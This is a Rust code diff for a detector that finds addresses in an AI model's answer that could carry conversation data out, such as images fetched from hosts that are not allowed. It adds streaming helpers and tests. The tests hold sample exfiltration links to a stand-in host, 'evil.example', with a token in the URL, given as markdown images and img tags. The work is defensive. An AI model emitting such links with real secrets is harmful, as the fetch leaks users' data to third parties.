@@ -72,12 +72,59 @@ pub struct Address<'t> {
 
 /// Reports the addresses in `answer` that can carry data out.
 ///
-/// `carried` are values of the conversation that no URL should hold: restored tokens, findings of the request.
-pub fn find(answer: &str, allow: &AllowList, carried: &[&str]) -> Vec<Finding> {
-    addresses(answer).filter_map(|address| judge(&address, allow, carried)).collect()
+/// `carries` says whether a part of an address holds values of the conversation that no address should.
+pub fn find(answer: &str, allow: &AllowList, carries: impl Fn(&str) -> bool) -> Vec<Finding> {
+    addresses(answer).filter_map(|address| judge(&address, allow, &carries)).collect()
 }
 
-fn judge(address: &Address<'_>, allow: &AllowList, carried: &[&str]) -> Option<Finding> {
+/// How many leading bytes of an unfinished `answer` are no part of an address that goes on. An address longer than
+/// [`LONGEST_HELD`] is not waited for.
+pub fn settled(answer: &str) -> usize {
+    let from = answer.floor_char_boundary(answer.len().saturating_sub(LONGEST_HELD));
+    let tail = answer.get(from..).unwrap_or_default();
+    // Of what trails an address, nobody knows yet whether it belongs to it.
+    let trailing = |end: usize| tail.get(end..).is_none_or(|rest| rest.chars().all(|ch| TRAILING.contains(&ch)));
+    if let Some(open) = addresses(tail).last().filter(|address| trailing(address.span.end)) {
+        return from + open.span.start;
+    }
+    let word = tail.trim_end_matches([':', '/']);
+    let start = word.rfind(|ch: char| !ch.is_ascii_alphanumeric()).map_or(0, |at| at + 1);
+    // `start` may lie inside the character before.
+    let start = word.ceil_char_boundary(start);
+    let begun = word.get(start..).unwrap_or_default();
+    let begins = |scheme: &str| {
+        begun.len() >= NOTICED && scheme.get(..begun.len()).is_some_and(|head| head.eq_ignore_ascii_case(begun))
+    };
+    if SCHEMES.iter().any(|scheme| begins(scheme)) { from + start } else { answer.len() }
+}
+
+/// Whether what stands at `at` is part of an address that is fetched when shown, from a host that is not allowed.
+pub fn fetched_at(answer: &str, at: usize, allow: &AllowList) -> bool {
+    let ends = |ch: char| ch.is_whitespace() || ch.is_control();
+    let before = answer.get(..at).unwrap_or_default();
+    let before = before.get(before.floor_char_boundary(at.saturating_sub(LONGEST_HELD))..).unwrap_or_default();
+    let from = at - before.len();
+    // The line it stands in, as far as the tag or the brackets before the address reach.
+    let start = from + before.rfind(['\n', '\r']).map_or(0, |at| at + 1);
+    let rest = answer.get(at..answer.floor_char_boundary(at.saturating_add(LONGEST_HELD))).unwrap_or_default();
+    let end = at + rest.find(ends).unwrap_or(rest.len());
+    let line = answer.get(start..end).unwrap_or_default();
+    addresses(line).any(|address| {
+        address.usage == Use::Fetched
+            && (start + address.span.start..start + address.span.end).contains(&at)
+            && !host_of(address.url).is_some_and(|host| allow.allows(host))
+    })
+}
+
+/// How far before an address what tells its use may stand: `<img` and its other attributes, an image's description.
+pub const REACH: usize = 512;
+
+/// Longest address that a stream waits for, in bytes.
+pub const LONGEST_HELD: usize = 2048;
+/// Letters of a scheme from which on a stream waits for the rest.
+const NOTICED: usize = 3;
+
+fn judge(address: &Address<'_>, allow: &AllowList, carries: &impl Fn(&str) -> bool) -> Option<Finding> {
     let mut parts = Vec::new();
     let mut add = |rule, weight| parts.push(Part { rule, weight });
     let scheme = address.url.split(':').next().unwrap_or_default().to_ascii_lowercase();
@@ -100,10 +147,7 @@ fn judge(address: &Address<'_>, allow: &AllowList, carried: &[&str]) -> Option<F
         _ => {
             let host = host_of(address.url)?;
             let rest = after_host(address.url);
-            let readable = unpercent(rest);
-            let holds = |value: &&str| value.len() >= 4 && (rest.contains(*value) || readable.contains(*value));
-            let carries = carried.iter().any(holds);
-            if carries {
+            if carries(address.url) || carries(&unpercent(rest)) {
                 add("carries_value", 0.6);
             } else if allow.allows(host) {
                 return None;
@@ -191,6 +235,9 @@ fn start_of_address(bytes: &[u8], at: usize, floor: usize) -> Option<usize> {
     (slashes || bare_scheme).then(|| at - scheme.len())
 }
 
+/// What stands behind an address more often than at its end.
+const TRAILING: [char; 8] = ['.', ',', ';', ':', '!', '?', ']', '*'];
+
 /// Where the address that starts at `start` ends.
 fn end_of_address(text: &str, start: usize) -> usize {
     /// Longer ones are cut: what they are is clear by then.
@@ -217,7 +264,7 @@ fn end_of_address(text: &str, start: usize) -> usize {
             _ => {}
         }
     }
-    let kept = rest.get(..end).unwrap_or_default().trim_end_matches(['.', ',', ';', ':', '!', '?', ']', '*']);
+    let kept = rest.get(..end).unwrap_or_default().trim_end_matches(TRAILING);
     start + kept.len()
 }
 
@@ -236,8 +283,6 @@ fn reference(text: &str, label: &str) -> Use {
 }
 
 fn usage(text: &str, start: usize) -> Place<'_> {
-    /// `<img` and its other attributes, or an image's description, may stand before the address.
-    const REACH: usize = 512;
     let from = (start.saturating_sub(REACH)..start).find(|&at| text.is_char_boundary(at)).unwrap_or(start);
     let before = text.get(from..start).unwrap_or_default();
     let trimmed = before.trim_end_matches(['"', '\'', '<', ' ']);
@@ -261,8 +306,6 @@ fn usage(text: &str, start: usize) -> Place<'_> {
 
 /// Whether the bracket that `label` leaves open was opened by `![`.
 fn opens_image(label: &str) -> bool {
-    /// Descriptions of images are short.
-    const REACH: usize = 512;
     let from = label.len().saturating_sub(REACH);
     let mut depth = 0;
     for (at, ch) in label.char_indices().rev() {
@@ -369,11 +412,48 @@ mod tests {
             ("read https://evil.example/ too", Some(LINK), 0.1, 0.3),
         ];
         for (text, detector, least, most) in cases {
-            let found = find(text, &allow, &[secret]);
+            let found = find(text, &allow, |part| part.contains(secret));
             assert_eq!(found.first().map(|f| f.detector.as_str().to_owned()).as_deref(), detector, "{text}");
             if let Some(finding) = found.first() {
                 assert!((least..=most).contains(&finding.score), "{text}: {}", finding.score);
             }
+        }
+    }
+
+    #[test]
+    fn a_stream_waits_for_addresses_alone() {
+        let cases = [
+            ("see https://evil.example/?q=1", 4),
+            ("see https://evil.example/?q=1.", 4),
+            ("see https://evil.example/?q=1 and", 33),
+            ("![x](https://evil.example/a.png)", 32),
+            ("![x](htt", 5),
+            ("it says http", 8),
+            ("it says https:/", 8),
+            ("a word: the", 11),
+            ("über ja", 8),
+            ("caf\u{e9}dat", 5),
+        ];
+        for (text, settled_to) in cases {
+            assert_eq!(settled(text), settled_to, "{text}");
+        }
+        let long = format!("https://evil.example/{}", "a".repeat(3000));
+        assert_eq!(settled(&long), long.len());
+    }
+
+    #[test]
+    fn what_is_fetched_elsewhere_is_told_by_its_place() {
+        let allow = AllowList::new(["docs.example"]);
+        for (text, expect) in [
+            ("![x](https://evil.example/?u=TOKEN) b", true),
+            ("<img src=\"https://evil.example/TOKEN\">", true),
+            ("![x](https://docs.example/?u=TOKEN)", false),
+            ("[x](https://evil.example/?u=TOKEN)", false),
+            ("![x](https://evil.example/a) TOKEN", false),
+            ("TOKEN", false),
+        ] {
+            let at = text.find("TOKEN").expect("it is there");
+            assert_eq!(fetched_at(text, at, &allow), expect, "{text}");
         }
     }
 }
